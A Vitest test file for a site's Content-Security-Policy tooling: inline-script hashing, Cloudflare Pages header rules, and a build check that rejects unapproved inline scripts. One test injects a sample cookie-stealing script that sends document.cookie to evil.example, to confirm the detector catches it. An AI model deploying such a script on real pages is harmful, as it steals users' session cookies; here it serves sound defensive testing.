import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { parseHeaders } from '../../scripts/serve.mjs';
import {
	allowedInlineHashes,
	fillHeaders,
	formatUnknownInlineScripts,
	inlineScriptHashes,
	inlineScripts,
	PLACEHOLDER,
	sourceInlineScripts,
	unknownInlineScripts,
} from '../../src/security/csp.ts';

describe('Content-Security-Policy hashes', () => {
	test('each inline script gets its SHA-256; scripts with src and JSON data blocks do not', () => {
		const html = `<script>alert(1)</script><script type="module">x()</script><script src="/a.js"></script><script type="application/json">{"a":1}</script>`;
		// sha256("alert(1)") in base64, as a browser computes it.
		expect(inlineScriptHashes(html)).toEqual(["'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='", "'sha256-D6IGS8VMvCoyaR/l0h9tERrBTATY01CoPS7l6xDv0kI='"]);
	});

	test('the _headers template gets every page’s hashes once, sorted, in place of the placeholder', () => {
		const filled = fillHeaders(`/*\n  Content-Security-Policy: script-src 'self' ${PLACEHOLDER}\n`, ['<script>a</script>', '<script>b</script><script>a</script>']);
		expect(filled.match(/'sha256-[^']+'/g)).toHaveLength(2);
		expect(filled).not.toContain(PLACEHOLDER);
	});

	test('public/_headers: every response but /embed/* gets one policy that forbids framing; /embed/* gets its own that allows it', () => {
		const template = readFileSync('public/_headers', 'utf8');
		const policies = template.split('\n').filter((line) => /^\s+Content-Security-Policy:/.test(line));
		expect(policies).toHaveLength(2);
		for (const line of policies) expect(line).toContain(PLACEHOLDER);
		const headersFor = parseHeaders(template);
		for (const path of ['/', '/index.html', '/404.html', '/missing/page/', '/en/shoppers/keep-evidence/', '/zh-cn/', '/_astro/x.js', '/embed.js']) {
			const headers = headersFor(path);
			expect(headers['Content-Security-Policy'], path).toMatch(/frame-ancestors 'none'$/);
			expect(headers['Content-Security-Policy'], path).not.toContain(', default-src');
			expect(headers['X-Frame-Options'], path).toBe('DENY');
			expect(headers['Strict-Transport-Security'], path).toBe('max-age=31536000');
		}
		const embed = headersFor('/embed/zh-cn/duty-calculator/');
		expect(embed['Content-Security-Policy']).toMatch(/^default-src 'self'; script-src 'self' \{\{INLINE_SCRIPT_HASHES\}\};.*frame-ancestors \*$/);
		expect(embed['X-Frame-Options']).toBeUndefined();
		expect(embed['Cross-Origin-Opener-Policy']).toBeUndefined();
		expect(headersFor('/en/')['Cross-Origin-Opener-Policy']).toBe('same-origin');
		expect(headersFor('/en/')['Cross-Origin-Resource-Policy']).toBe('same-origin');
		expect(headersFor('/_astro/x.js')['Cross-Origin-Resource-Policy']).toBe('cross-origin');
	});

	test('_headers rules combine as on Cloudflare Pages: values of two rules joined, "! Name" replaces', () => {
		const headersFor = parseHeaders('/*\n  X-Robots-Tag: noindex\n  A: 1\n/static/*\n  X-Robots-Tag: nosnippet\n  ! A\n  A: 2\n');
		expect(headersFor('/static/x.css')).toEqual({ 'X-Robots-Tag': 'noindex, nosnippet', A: '2' });
		expect(headersFor('/page')).toEqual({ 'X-Robots-Tag': 'noindex', A: '1' });
	});

	test('a template without the placeholder is refused, rather than shipping a policy that blocks the site', () => {
		expect(() => fillHeaders("Content-Security-Policy: script-src 'self'", [])).toThrow(/INLINE_SCRIPT_HASHES/);
	});
});

describe('only the inline scripts the components ship are allowed', () => {
	const themeGuard = readFileSync('src/components/ThemeProvider.astro', 'utf8');

	test('the allowed scripts are the <script is:inline> blocks of the .astro sources, byte for byte', () => {
		const scripts = sourceInlineScripts('---\n---\n<script is:inline>\n\tone();\n</script>\n<script>bundled()</script>\n<script is:inline aria-hidden="true">two()</script>');
		expect(scripts).toEqual(['\n\tone();\n', 'two()']);
		expect(sourceInlineScripts(themeGuard)).toHaveLength(1);
	});

	test('a page with only the shipped scripts passes; a script from content fails the build, naming the page', () => {
		const allowed = allowedInlineHashes([themeGuard]);
		const [guard] = sourceInlineScripts(themeGuard);
		const page = `<html><head><script>${guard}</script></head><body><script type="application/json">{"x":1}</script><script src="/_astro/a.js"></script></body></html>`;
		expect(unknownInlineScripts([{ file: 'dist/en/index.html', html: page }], allowed)).toEqual([]);
		const smuggled = page.replace('</body>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></body>');
		const unknown = unknownInlineScripts([{ file: 'dist/en/shoppers/x/index.html', html: smuggled }], allowed);
		expect(unknown).toEqual([{ file: 'dist/en/shoppers/x/index.html', start: 'fetch("https://evil.example/?c="+document.cookie)' }]);
		expect(formatUnknownInlineScripts(unknown)).toContain('dist/en/shoppers/x/index.html: <script>fetch("https://evil.example');
		// A module script is run too, so it is checked too.
		expect(unknownInlineScripts([{ file: 'p', html: '<script type="module">import("x")</script>' }], allowed)).toHaveLength(1);
	});

	test('scripts are found as a browser finds them: not inside a <title> or an attribute, but after a </title>', () => {
		expect(inlineScripts('<title>Tick <script>a()</script></title><meta content="<script>b()</script>">')).toEqual([]);
		expect(inlineScripts('<title>Tick </title><script>c()</script> | Site</title>')).toEqual(['c()']);
		expect(inlineScripts('<template><script>d()</script></template><svg><script>e()</script></svg>')).toEqual(['d()', 'e()']);
	});

	test('the same script written with one more space is another script', () => {
		const allowed = allowedInlineHashes(['<script is:inline>a()</script>']);
		expect(unknownInlineScripts([{ file: 'p', html: '<script>a()</script>' }], allowed)).toEqual([]);
		expect(unknownInlineScripts([{ file: 'p', html: '<script>a() </script>' }], allowed)).toHaveLength(1);
	});
});
